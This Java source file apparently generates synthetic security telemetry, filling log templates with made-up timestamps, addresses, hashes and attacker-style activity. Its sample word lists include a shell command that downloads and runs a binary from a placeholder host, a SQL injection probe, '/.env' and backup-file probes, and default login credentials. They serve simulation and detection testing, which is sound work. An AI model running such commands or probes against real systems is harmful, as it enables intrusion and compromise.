package org.commonwatch.telemetry.simulation;

import org.commonwatch.stix.Observable.Kind;

import java.util.Arrays;
import java.util.function.BiConsumer;

/** What a template leaves open. */
@SuppressWarnings("ImmutableEnumChecker") // what writes has no state
enum Slot {
    TIME((out, it) -> {
        it.timeAt = out.length();
        it.zone.write(out, it.micros);
    }),
    BEGUN((out, it) -> it.zone.write(out, it.micros - it.random.nextInt(30_000_000))),
    DAY((out, it) -> out.moment(it.micros - it.micros % 86_400_000_000L, 0)),
    /** As Zeek has it; as a text before 2001, when seconds had fewer digits. */
    EPOCH((out, it) -> {
        it.timeAt = out.length();
        if (it.micros >= 1_000_000_000_000_000L) {
            out.number(it.micros / 1_000_000);
            out.put('.');
            out.padded(it.micros % 1_000_000, 6);
        } else {
            out.put('"');
            it.timeAt++;
            Zone.ZULU.write(out, it.micros);
            out.put('"');
        }
    }),
    SECONDS((out, it) -> {
        out.number(it.random.nextInt(40));
        out.put('.');
        out.padded(it.random.nextInt(1_000_000), 6);
    }),

    SOURCE((out, it) -> Addresses.write(out, it.source)),
    TARGET((out, it) -> Addresses.write(out, it.target)),
    SOURCE_PORT((out, it) -> out.number(1_024 + it.random.nextInt(64_000))),
    PORT((out, it) -> out.number(it.port)),
    FLOW((out, it) -> out.number(it.random.nextLong() >>> 13)),
    UID((out, it) -> out.hex(it.random.nextLong(), 16)),
    /** Of several lines together. */
    SESSION((out, it) -> out.hex(Mix.of(~(it.line / CowrieScene.LINES)), 12)),
    COMMUNITY((out, it) -> out.hex(it.random.nextLong(), 16)),
    PACKETS_BACK((out, it) -> out.number(it.packetsBack)),
    FEW((out, it) -> out.number(1 + it.random.nextInt(16))),
    SIZE((out, it) -> out.number(40 + (it.random.nextInt(1 << 16) >>> it.random.nextInt(11)))),
    STATUS((out, it) -> out.put(Words.any(Words.STATUSES, it.word))),

    NUMBER((out, it) -> out.number(it.activity.number())),
    SIGNATURE((out, it) -> out.put(it.activity.signature())),
    CATEGORY((out, it) -> out.put(it.activity.category())),
    SEVERITY((out, it) -> out.put(it.activity.severity())),

    /** A whole member, or none. */
    APPLICATION((out, it) -> out.put(it.application)),
    STATE((out, it) -> out.put(it.state)),
    CONNECTION((out, it) -> out.put(it.connection)),

    NAME((out, it) -> {
        if (it.hits(Kind.DOMAIN)) {
            out.put(it.prefix);
            SyntheticIndicators.write(out, it.indicator);
        } else {
            out.put(Words.HOST);
            out.number(it.rank);
            out.put(Words.ZONE);
        }
    }),
    /** A whole member, named by the sort of hash. */
    HASH((out, it) -> {
        if (it.hits(Kind.MD5)) {
            out.put(Words.MD5);
            SyntheticIndicators.hash(out, it.indicator, 32);
        } else if (it.hits(Kind.SHA1)) {
            out.put(Words.SHA1);
            SyntheticIndicators.hash(out, it.indicator, 40);
        } else {
            out.put(Words.SHA256);
            SyntheticIndicators.hash(out, Slot.file(it), 64);
        }
        out.put('"');
    }),
    DIGEST((out, it) -> SyntheticIndicators.hash(out, Slot.file(it), 64)),
    FINGERPRINT((out, it) -> {
        for (int i = 0; i < 20; i++) {
            out.hex(it.random.nextInt(256), 2);
            out.put(':');
        }
        out.length(out.length() - 1);
    }),
    JA3((out, it) -> SyntheticIndicators.hash(out, ~(long) it.random.nextInt(40), 32)),

    METHOD((out, it) -> out.put(Words.any(Words.METHODS, it.word >> 4))),
    PATH((out, it) -> out.put(Words.any(Words.PATHS, it.word >> 8))),
    AGENT((out, it) -> out.put(Words.any(Words.AGENTS, it.word >> 12))),
    USER((out, it) -> out.put(Words.any(Words.USERS, it.word >> 6))),
    PASSWORD((out, it) -> out.put(Words.any(Words.PASSWORDS, it.word >> 16))),
    COMMAND((out, it) -> out.put(Words.any(Words.COMMANDS, it.word >> 10))),
    CLIENT((out, it) -> out.put(Words.any(Words.CLIENTS, it.word >> 14)));

    private final BiConsumer<LineWriter, Happening> writing;

    Slot(BiConsumer<LineWriter, Happening> writing) {
        this.writing = writing;
    }

    void write(LineWriter out, Happening it) {
        writing.accept(out, it);
    }

    // Below zero: no indicator's.
    private static long file(Happening it) {
        return it.hits(Kind.SHA256) ? it.indicator : it.random.nextLong() | Long.MIN_VALUE;
    }

    /** What simulated programs and people write; all of it made up. */
    private static final class Words {
        static final byte[][] STATUSES = texts("200", "200", "301", "302", "403", "404", "500");
        static final byte[] HOST = LineWriter.ascii("host-");
        static final byte[] ZONE = LineWriter.ascii(".service.example");
        static final byte[] MD5 = LineWriter.ascii("\"md5\":\"");
        static final byte[] SHA1 = LineWriter.ascii("\"sha1\":\"");
        static final byte[] SHA256 = LineWriter.ascii("\"sha256\":\"");
        static final byte[][] METHODS = texts("GET", "GET", "GET", "POST", "HEAD");
        static final byte[][] PATHS =
                texts(
                        "/",
                        "/index.php?page=2",
                        "/api/v1/session",
                        "/admin/login.aspx",
                        "/search?q=1%27%20OR%20%271%27=%271",
                        "\\/cgi-bin\\/status",
                        "/static/js/app.7f3a.js",
                        "/shop/item?id=77&ref=front%20page",
                        "/.env",
                        "/backup/db.sql.gz",
                        "/owa/auth/x.js",
                        "/news/2018/11/results.html");
        static final byte[][] AGENTS =
                texts(
                        "Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Example/20100101 Browser/115.0",
                        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Example/537.36 Browser/119.0",
                        "Mozilla\\/5.0 (Macintosh; Intel Mac OS X 10_15_7) ExampleKit\\/605.1.15",
                        "python-client/2.31",
                        "fetch/7.88.1",
                        "Example-Scan/1.0 (+http://scan.example/why)");
        static final byte[][] USERS = texts("root", "admin", "ubuntu", "oracle", "test", "pi");
        static final byte[][] PASSWORDS =
                texts("123456", "password", "admin", "root", "1qaz2wsx", "changeme", "letmein", "");
        static final byte[][] COMMANDS =
                texts(
                        "uname -a",
                        "cat /proc/cpuinfo | grep name | wc -l",
                        "cd /dev/shm; wget http://host-1.service.example/x; chmod +x x; ./x",
                        "free -m",
                        "echo \\\"done\\\" > .state",
                        "crontab -l");
        static final byte[][] CLIENTS =
                texts("SSH-2.0-Go", "SSH-2.0-libssh_0.9.6", "SSH-2.0-PUTTY", "SSH-2.0-OpenSSH_8.2");

        private Words() {}

        private static byte[][] texts(String... texts) {
            return Arrays.stream(texts).map(LineWriter::ascii).toArray(byte[][]::new);
        }

        /** One of them, by any number. */
        static byte[] any(byte[][] texts, int number) {
            return texts[Math.floorMod(number, texts.length)];
        }
    }
}
